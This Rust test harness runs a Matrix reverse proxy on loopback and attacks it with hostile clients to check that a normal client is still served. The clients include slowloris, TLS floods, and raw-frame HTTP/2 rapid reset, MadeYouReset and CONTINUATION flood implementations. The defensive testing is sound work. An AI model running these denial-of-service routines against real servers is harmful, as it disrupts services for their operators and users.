//! The real edge on loopback against a loopback upstream, the hostile clients that attack it
//! (silent and preface-only HTTP/2, PING-answering idle HTTP/2, idle TLS floods, rapid reset,
//! CONTINUATION floods) and the normal client that must still be answered. Shared by
//! tests/hostile_e2e.rs and examples/hostile_bench.rs.

#![allow(dead_code)] // the test and the benchmark use different parts

use std::net::{IpAddr, SocketAddr};
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use http_body_util::Full;
use hyper::service::service_fn;
use hyper_util::rt::TokioIo;
use matrixbox::proxy::{self, ChallengeLookup, ConnPolicy, Connections, Edge, SharedEdge};
use matrixbox::tls::{self, CertStore};
use rustls::pki_types::{CertificateDer, ServerName};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpSocket, TcpStream};
use tokio_rustls::client::TlsStream;
use tokio_util::sync::CancellationToken;

pub const NAME: &str = "matrix.test";
pub const VERSIONS: &str = "/_matrix/client/versions";
/// Answered by the upstream after `SYNC_DELAY`, like a long-poll that has something to say soon.
pub const SYNC: &str = "/_matrix/client/v3/sync";
pub const SYNC_DELAY: Duration = Duration::from_millis(300);
/// The source address of attackers; the normal client comes from another one.
pub const ATTACKER: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 1));
pub const NORMAL: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 2));
/// Bounds every single wait of a client here, so nothing hangs for ever.
const CLIENT_PATIENCE: Duration = Duration::from_secs(60);

struct NoChallenges;
impl ChallengeLookup for NoChallenges {
    fn key_authorization(&self, _: &str) -> Option<String> {
        None
    }
}

/// A Synapse stand-in: `/versions` at once, `/sync` after `SYNC_DELAY`, or after its
/// `timeout` query parameter (milliseconds) like a long-poll with nothing to say.
async fn upstream() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            tokio::spawn(async move {
                let service = service_fn(|req: hyper::Request<hyper::body::Incoming>| async move {
                    if req.uri().path() == SYNC {
                        let timeout = req
                            .uri()
                            .query()
                            .and_then(|q| q.strip_prefix("timeout="))
                            .and_then(|ms| ms.parse().ok())
                            .map_or(SYNC_DELAY, Duration::from_millis);
                        tokio::time::sleep(timeout).await;
                    }
                    Ok::<_, std::convert::Infallible>(hyper::Response::new(Full::new(
                        Bytes::from_static(br#"{"versions":["v1.11"]}"#),
                    )))
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(tcp), service)
                    .await;
            });
        }
    });
    addr
}

/// The edge's HTTPS listener on loopback, serving until dropped.
pub struct Harness {
    pub https: SocketAddr,
    pub connections: Arc<Connections>,
    root: CertificateDer<'static>,
    _shutdown: tokio_util::sync::DropGuard,
}

impl Harness {
    pub async fn start(policy: ConnPolicy) -> Harness {
        // Bound as the daemon binds its listeners.
        let https = proxy::listener("127.0.0.1:0".parse().unwrap()).unwrap();
        let https_addr = https.local_addr().unwrap();
        let config = matrixbox::config::parse(
            &format!("domain: {NAME}\nlisten: {{https: '{https_addr}'}}\n"),
            Path::new("test.yaml"),
        )
        .unwrap();
        let cert = rcgen::generate_simple_self_signed(vec![NAME.to_string()]).unwrap();
        let store = CertStore::new();
        let key = tls::certified_key_from_pem(
            cert.cert.pem().as_bytes(),
            cert.signing_key.serialize_pem().as_bytes(),
        )
        .unwrap();
        store.install(&[NAME.to_string()], Arc::new(key));
        let edge = SharedEdge::new(Edge::new(
            &config,
            matrixbox::upstream::UpstreamAddr::Tcp(upstream().await.to_string().parse().unwrap()),
            Arc::new(NoChallenges),
        ));
        let shutdown = CancellationToken::new();
        let connections = Connections::new(policy);
        tokio::spawn(proxy::serve_https(
            https,
            Arc::new(tls::server_config(store)),
            edge,
            connections.clone(),
            shutdown.clone(),
        ));
        Harness {
            https: https_addr,
            connections,
            root: cert.cert.der().clone(),
            _shutdown: shutdown.drop_guard(),
        }
    }

    pub fn client_config(&self, alpn: &[&[u8]]) -> Arc<rustls::ClientConfig> {
        self.client_config_with(rustls::crypto::ring::default_provider(), alpn)
    }

    /// A client trusting the edge's certificate, with the cipher suites of `provider`.
    pub fn client_config_with(
        &self,
        provider: rustls::crypto::CryptoProvider,
        alpn: &[&[u8]],
    ) -> Arc<rustls::ClientConfig> {
        let mut roots = rustls::RootCertStore::empty();
        roots.add(self.root.clone()).unwrap();
        let mut config = rustls::ClientConfig::builder_with_provider(Arc::new(provider))
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_root_certificates(roots)
            .with_no_client_auth();
        config.alpn_protocols = alpn.iter().map(|p| p.to_vec()).collect();
        Arc::new(config)
    }

    /// A TCP connection to the edge from `source` (any 127.0.0.0/8 address).
    pub async fn tcp(&self, source: IpAddr) -> std::io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::new(source, 0))?;
        socket.connect(self.https).await
    }

    pub async fn tls_with(
        &self,
        source: IpAddr,
        config: Arc<rustls::ClientConfig>,
    ) -> std::io::Result<TlsStream<TcpStream>> {
        let tcp = self.tcp(source).await?;
        let connect = tokio_rustls::TlsConnector::from(config)
            .connect(ServerName::try_from(NAME).unwrap(), tcp);
        tokio::time::timeout(CLIENT_PATIENCE, connect)
            .await
            .map_err(|_| std::io::ErrorKind::TimedOut)?
    }

    pub async fn tls(&self, source: IpAddr, alpn: &[u8]) -> std::io::Result<TlsStream<TcpStream>> {
        self.tls_with(source, self.client_config(&[alpn])).await
    }
}

/// One `GET /_matrix/client/versions` on a new TLS connection, as a client arriving now would
/// send it; how long it took, or what went wrong.
pub async fn versions(h: &Harness, source: IpAddr) -> Result<Duration, String> {
    let started = Instant::now();
    let request = async {
        let mut tls = h
            .tls(source, b"http/1.1")
            .await
            .map_err(|e| e.to_string())?;
        tls.write_all(
            format!("GET {VERSIONS} HTTP/1.1\r\nHost: {NAME}\r\nConnection: close\r\n\r\n")
                .as_bytes(),
        )
        .await
        .map_err(|e| e.to_string())?;
        let mut out = Vec::new();
        let _ = tls.read_to_end(&mut out).await;
        let out = String::from_utf8_lossy(&out);
        match out.starts_with("HTTP/1.1 200") && out.ends_with(r#"{"versions":["v1.11"]}"#) {
            true => Ok(started.elapsed()),
            false => Err(format!("unexpected answer: {out:?}")),
        }
    };
    tokio::time::timeout(Duration::from_secs(10), request)
        .await
        .unwrap_or_else(|_| Err("no answer within 10 s".into()))
}

/// A normal client requesting `/versions` every `every` from `source` until stopped.
pub struct NormalClient {
    stop: CancellationToken,
    task: tokio::task::JoinHandle<Vec<Result<Duration, String>>>,
}

impl NormalClient {
    pub fn start(h: &Arc<Harness>, source: IpAddr, every: Duration) -> NormalClient {
        NormalClient::start_on(&tokio::runtime::Handle::current(), h, source, every)
    }

    /// `start` on the runtime of `runtime` (a benchmark keeps the client off the attackers').
    pub fn start_on(
        runtime: &tokio::runtime::Handle,
        h: &Arc<Harness>,
        source: IpAddr,
        every: Duration,
    ) -> NormalClient {
        let stop = CancellationToken::new();
        let (h, until) = (h.clone(), stop.clone());
        let task = runtime.spawn(async move {
            let mut results = Vec::new();
            while !until.is_cancelled() {
                results.push(versions(&h, source).await);
                tokio::select! {
                    _ = until.cancelled() => {}
                    _ = tokio::time::sleep(every) => {}
                }
            }
            results
        });
        NormalClient { stop, task }
    }

    /// Every request's latency or failure.
    pub async fn stop(self) -> Vec<Result<Duration, String>> {
        self.stop.cancel();
        self.task.await.unwrap()
    }

    /// Every answer's latency; panics with the failures if any request failed.
    pub async fn finish(self, during: &str) -> Vec<Duration> {
        let results = self.stop().await;
        let failures: Vec<_> = results.iter().filter_map(|r| r.as_ref().err()).collect();
        assert!(
            failures.is_empty(),
            "the normal client failed {} of {} requests during {during}: {failures:?}",
            failures.len(),
            results.len()
        );
        assert!(!results.is_empty(), "no normal request during {during}");
        results.into_iter().map(Result::unwrap).collect()
    }
}

/// Open file descriptors of this process.
pub fn open_fds() -> usize {
    std::fs::read_dir("/proc/self/fd").unwrap().count()
}

/// How an attacker's connection ended: after how long, and with which HTTP/2 GOAWAY (its error
/// code), if one came.
#[derive(Debug)]
pub struct Closed {
    pub after: Duration,
    pub goaway: Option<u32>,
}

/// Reads HTTP/2 frames (the server's SETTINGS, PINGs, GOAWAY) until the server closes.
async fn read_until_closed<R: AsyncRead + Unpin>(mut stream: R, started: Instant) -> Closed {
    let mut goaway = None;
    let read = async {
        let mut head = [0u8; 9];
        loop {
            if stream.read_exact(&mut head).await.is_err() {
                return;
            }
            let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let mut payload = vec![0u8; len];
            if stream.read_exact(&mut payload).await.is_err() {
                return;
            }
            // GOAWAY: last stream id (4 bytes), then the error code.
            if head[3] == 0x7 && len >= 8 {
                goaway = Some(u32::from_be_bytes(payload[4..8].try_into().unwrap()));
            }
        }
    };
    let _ = tokio::time::timeout(CLIENT_PATIENCE, read).await;
    Closed {
        after: started.elapsed(),
        goaway,
    }
}

const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    let mut out = vec![len[1], len[2], len[3], kind, flags];
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A TLS connection that negotiates h2 and then sends nothing; an error if the edge refused it.
pub async fn silent_h2(h: &Harness, source: IpAddr) -> std::io::Result<Closed> {
    let started = Instant::now();
    let tls = h.tls(source, b"h2").await?;
    Ok(read_until_closed(tls, started).await)
}

/// An h2 connection that sends the preface and its SETTINGS, and opens no stream.
pub async fn preface_only(h: &Harness, source: IpAddr) -> std::io::Result<Closed> {
    let started = Instant::now();
    let mut tls = h.tls(source, b"h2").await?;
    let mut hello = H2_PREFACE.to_vec();
    hello.extend(frame(0x4, 0, 0, &[]));
    tls.write_all(&hello).await?;
    Ok(read_until_closed(tls, started).await)
}

/// Slowloris: an HTTP/1.1 request whose header lines trickle in, one every `every`, never
/// ending; how long the edge kept the connection.
pub async fn slowloris(h: &Harness, source: IpAddr, every: Duration) -> std::io::Result<Duration> {
    let started = Instant::now();
    let mut tls = h.tls(source, b"http/1.1").await?;
    tls.write_all(format!("GET {VERSIONS} HTTP/1.1\r\nHost: {NAME}\r\n").as_bytes())
        .await?;
    let trickle = async {
        for i in 0.. {
            let mut buf = [0u8; 256];
            match tokio::time::timeout(every, tls.read(&mut buf)).await {
                Ok(_) => return,
                Err(_) => {
                    if tls
                        .write_all(format!("X-Slow-{i}: 1\r\n").as_bytes())
                        .await
                        .is_err()
                    {
                        return;
                    }
                }
            }
        }
    };
    let _ = tokio::time::timeout(CLIENT_PATIENCE, trickle).await;
    Ok(started.elapsed())
}

/// A long-poll `/sync` (the upstream answers after `wait`) over HTTP/2, then the time until the
/// idle connection is closed; the status and both times.
pub async fn h2_long_poll(
    h: &Harness,
    source: IpAddr,
    wait: Duration,
) -> (u16, Duration, Duration) {
    let tls = h.tls(source, b"h2").await.unwrap();
    let (send, conn) = h2::client::handshake(tls).await.unwrap();
    let mut conn = tokio::spawn(conn);
    let mut send = send.ready().await.unwrap();
    let started = Instant::now();
    let request = http::Request::get(format!("https://{NAME}{SYNC}?timeout={}", wait.as_millis()))
        .body(())
        .unwrap();
    let (response, _) = send.send_request(request, true).unwrap();
    let response = tokio::time::timeout(CLIENT_PATIENCE, response)
        .await
        .unwrap()
        .unwrap();
    let status = response.status().as_u16();
    let mut body = response.into_body();
    while let Some(chunk) = body.data().await {
        let _ = body.flow_control().release_capacity(chunk.unwrap().len());
    }
    let answered = started.elapsed();
    let idle = Instant::now();
    let _ = tokio::time::timeout(CLIENT_PATIENCE, &mut conn).await;
    drop(send);
    (status, answered, idle.elapsed())
}

/// What an idle, PING-answering h2 client saw.
#[derive(Debug)]
pub struct Pinged {
    /// From its last answer to the connection's end.
    pub idle_for: Duration,
    /// Its own PINGs answered by the server while it was idle.
    pub pongs: u32,
}

/// An h2 client (the h2 crate, which answers the server's PINGs) that makes one request and
/// then stays idle, sending a PING of its own every `ping_every`.
pub async fn idle_pinger(
    h: &Harness,
    source: IpAddr,
    ping_every: Duration,
) -> Result<Pinged, String> {
    let tls = h.tls(source, b"h2").await.map_err(|e| e.to_string())?;
    let (send, mut conn) = h2::client::handshake(tls)
        .await
        .map_err(|e| e.to_string())?;
    let mut ping_pong = conn.ping_pong().expect("a ping handle");
    let mut conn = tokio::spawn(conn);
    let mut send = send.ready().await.map_err(|e| e.to_string())?;
    let request = http::Request::get(format!("https://{NAME}{VERSIONS}"))
        .body(())
        .unwrap();
    let (response, _) = send
        .send_request(request, true)
        .map_err(|e| e.to_string())?;
    let mut body = response.await.map_err(|e| e.to_string())?.into_body();
    while let Some(chunk) = body.data().await {
        let chunk = chunk.map_err(|e| e.to_string())?;
        let _ = body.flow_control().release_capacity(chunk.len());
    }
    let idle_since = Instant::now();
    let mut pongs = 0;
    let watch = async {
        loop {
            tokio::select! {
                _ = &mut conn => return,
                _ = tokio::time::sleep(ping_every) => {
                    match tokio::time::timeout(Duration::from_secs(5), ping_pong.ping(h2::Ping::opaque())).await {
                        Ok(Ok(_)) => pongs += 1,
                        // The server is closing: wait for the end.
                        _ => { let _ = (&mut conn).await; return; }
                    }
                }
            }
        }
    };
    let _ = tokio::time::timeout(CLIENT_PATIENCE, watch).await;
    drop(send);
    Ok(Pinged {
        idle_for: idle_since.elapsed(),
        pongs,
    })
}

/// Opens up to `count` TLS connections from `source`, `parallel` at a time, and holds the ones
/// the edge accepts; returns them and how many were refused.
pub async fn idle_tls_flood(
    h: &Harness,
    source: IpAddr,
    count: usize,
    parallel: usize,
) -> (Vec<TlsStream<TcpStream>>, usize) {
    let config = h.client_config(&[b"http/1.1"]);
    let (mut held, mut refused) = (Vec::new(), 0);
    let mut remaining = count;
    while remaining > 0 {
        let batch = remaining.min(parallel);
        remaining -= batch;
        let attempts = (0..batch).map(|_| h.tls_with(source, config.clone()));
        for attempt in futures_util::future::join_all(attempts).await {
            match attempt {
                Ok(stream) => held.push(stream),
                Err(_) => refused += 1,
            }
        }
    }
    (held, refused)
}

/// What a rapid-reset attacker achieved.
#[derive(Debug, Default)]
pub struct RapidReset {
    pub resets: usize,
    pub connections: usize,
    /// Connections that ended with a GOAWAY from the edge.
    pub goaways: usize,
    /// The most resets written on one connection before it ended (some only into socket
    /// buffers the edge no longer read).
    pub most_on_one: usize,
    pub goaway_codes: std::collections::BTreeSet<u32>,
}

/// CVE-2023-44487, in raw frames (an h2 client library would not send a stream it has already
/// reset): HEADERS for a `/sync` stream and RST_STREAM for it at once, in batches, reconnecting
/// whenever the edge ends a connection, until at least `total` resets are sent over at least
/// `least` (the normal client then sees the attack), or `budget` has passed.
pub async fn rapid_reset(
    h: &Harness,
    source: IpAddr,
    total: usize,
    least: Duration,
    budget: Duration,
) -> RapidReset {
    const BATCH: u32 = 50;
    let started = Instant::now();
    let mut report = RapidReset::default();
    // :method GET, :scheme https (static table), :path and :authority (literals, not indexed).
    let mut block = vec![0x82, 0x87, 0x04, SYNC.len() as u8];
    block.extend_from_slice(SYNC.as_bytes());
    block.extend([0x01, NAME.len() as u8]);
    block.extend_from_slice(NAME.as_bytes());
    let more = |report: &RapidReset| {
        (report.resets < total || started.elapsed() < least) && started.elapsed() < budget
    };
    while more(&report) {
        let Ok(tls) = h.tls(source, b"h2").await else {
            continue;
        };
        report.connections += 1;
        let (reader, mut writer) = tokio::io::split(tls);
        let reading = tokio::spawn(read_until_closed(reader, Instant::now()));
        let mut hello = H2_PREFACE.to_vec();
        hello.extend(frame(0x4, 0, 0, &[]));
        let _ = writer.write_all(&hello).await;
        let (mut stream, mut on_this) = (1u32, 0);
        while more(&report) && !reading.is_finished() {
            let mut batch = Vec::new();
            for _ in 0..BATCH {
                // END_STREAM | END_HEADERS, then CANCEL.
                batch.extend(frame(0x1, 0x5, stream, &block));
                batch.extend(frame(0x3, 0, stream, &0x8u32.to_be_bytes()));
                stream += 2;
            }
            let write = tokio::time::timeout(Duration::from_secs(5), writer.write_all(&batch));
            if !matches!(write.await, Ok(Ok(()))) {
                break;
            }
            report.resets += BATCH as usize;
            on_this += BATCH as usize;
        }
        drop(writer);
        let closed = reading.await.unwrap();
        report.goaways += closed.goaway.is_some() as usize;
        report.goaway_codes.extend(closed.goaway);
        report.most_on_one = report.most_on_one.max(on_this);
    }
    report
}

/// Resets that evade h2's own rapid-reset limit: each `/sync` stream is reset only after the
/// edge has accepted it and started forwarding it (as a client switching rooms would, but
/// `max` times in a row). Returns how many were reset before the connection ended, and whether
/// it ended with GOAWAY.
pub async fn reset_after_accept(
    h: &Harness,
    source: IpAddr,
    max: usize,
) -> std::io::Result<(usize, bool)> {
    let tls = h.tls(source, b"h2").await?;
    let (mut send, conn) = h2::client::handshake(tls)
        .await
        .map_err(std::io::Error::other)?;
    let conn = tokio::spawn(conn);
    let mut resets = 0;
    let mut goaway = false;
    while resets < max {
        let ready = std::future::poll_fn(|cx| send.poll_ready(cx));
        match tokio::time::timeout(Duration::from_secs(10), ready).await {
            Ok(Ok(())) => {}
            Ok(Err(e)) => {
                goaway = e.is_go_away();
                break;
            }
            Err(_) => break,
        }
        let request = http::Request::get(format!("https://{NAME}{SYNC}"))
            .body(())
            .unwrap();
        let (_response, mut stream) = match send.send_request(request, true) {
            Ok(sent) => sent,
            Err(e) => {
                goaway = e.is_go_away();
                break;
            }
        };
        // Long enough for the request to reach the edge, far shorter than the upstream's answer.
        tokio::time::sleep(Duration::from_millis(5)).await;
        stream.send_reset(h2::Reason::CANCEL);
        resets += 1;
    }
    drop(send);
    let _ = tokio::time::timeout(CLIENT_PATIENCE, conn).await;
    Ok((resets, goaway))
}

/// MadeYouReset (CVE-2025-8671): streams the client does not reset itself but makes the server
/// reset, here with a WINDOW_UPDATE that overflows the stream's send window (a stream error,
/// FLOW_CONTROL_ERROR), in batches, up to `streams`. How the connection ended and how many streams were written.
pub async fn made_you_reset(
    h: &Harness,
    source: IpAddr,
    streams: u32,
) -> std::io::Result<(Closed, u32)> {
    const BATCH: u32 = 16;
    let started = Instant::now();
    let tls = h.tls(source, b"h2").await?;
    let (reader, mut writer) = tokio::io::split(tls);
    let reading = tokio::spawn(read_until_closed(reader, started));
    let mut hello = H2_PREFACE.to_vec();
    hello.extend(frame(0x4, 0, 0, &[]));
    writer.write_all(&hello).await?;
    let mut block = vec![0x82, 0x87, 0x04, SYNC.len() as u8];
    block.extend_from_slice(SYNC.as_bytes());
    block.extend([0x01, NAME.len() as u8]);
    block.extend_from_slice(NAME.as_bytes());
    let mut written = 0;
    while written < streams && !reading.is_finished() {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            let id = 1 + 2 * written;
            batch.extend(frame(0x1, 0x5, id, &block));
            batch.extend(frame(0x8, 0, id, &0x7fff_ffffu32.to_be_bytes()));
            written += 1;
        }
        let write = tokio::time::timeout(Duration::from_secs(5), writer.write_all(&batch));
        if !matches!(write.await, Ok(Ok(()))) {
            break;
        }
        // Paced, so each batch is read (and reset) before the next arrives.
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    drop(writer);
    Ok((reading.await.unwrap(), written))
}

/// A header literal (HPACK, "without indexing", new name), valid so the flood is not refused
/// merely for bad encoding.
fn hpack_literal(name: &str, value_len: usize) -> Vec<u8> {
    fn int(out: &mut Vec<u8>, prefix_bits: u32, mut n: usize) {
        let max = (1usize << prefix_bits) - 1;
        if n < max {
            out.push(n as u8);
            return;
        }
        out.push(max as u8);
        n -= max;
        while n >= 128 {
            out.push((n % 128 + 128) as u8);
            n /= 128;
        }
        out.push(n as u8);
    }
    let mut out = vec![0x00];
    int(&mut out, 7, name.len());
    out.extend_from_slice(name.as_bytes());
    int(&mut out, 7, value_len);
    out.extend(std::iter::repeat_n(b'a', value_len));
    out
}

/// CONTINUATION flood (CVE-2024-27316 and kin): a HEADERS frame without END_HEADERS followed by
/// up to `frames` CONTINUATION frames of about 1 KiB of headers each, never ending the block.
/// Returns how the connection ended and how many frames were written.
pub async fn continuation_flood(
    h: &Harness,
    source: IpAddr,
    frames: usize,
) -> std::io::Result<(Closed, usize)> {
    let started = Instant::now();
    let tls = h.tls(source, b"h2").await?;
    let (reader, mut writer) = tokio::io::split(tls);
    let reading = tokio::spawn(read_until_closed(reader, started));
    let mut hello = H2_PREFACE.to_vec();
    hello.extend(frame(0x4, 0, 0, &[]));
    // :method GET, :scheme https, :path / (static table), then :authority.
    let mut block = vec![0x82, 0x87, 0x84, 0x01, NAME.len() as u8];
    block.extend_from_slice(NAME.as_bytes());
    hello.extend(frame(0x1, 0x1, 1, &block));
    let _ = writer.write_all(&hello).await;
    let mut written = 0;
    while written < frames && !reading.is_finished() {
        let flood = frame(
            0x9,
            0,
            1,
            &hpack_literal(&format!("x-flood-{written}"), 1000),
        );
        if tokio::time::timeout(Duration::from_secs(5), writer.write_all(&flood))
            .await
            .map_or(true, |r| r.is_err())
        {
            break;
        }
        written += 1;
    }
    let closed = reading.await.unwrap();
    Ok((closed, written))
}

/// The value under which `fraction` of `sorted` lies.
pub fn percentile(sorted: &[Duration], fraction: f64) -> Duration {
    if sorted.is_empty() {
        return Duration::ZERO;
    }
    let rank = ((sorted.len() as f64 * fraction).ceil() as usize).clamp(1, sorted.len());
    sorted[rank - 1]
}
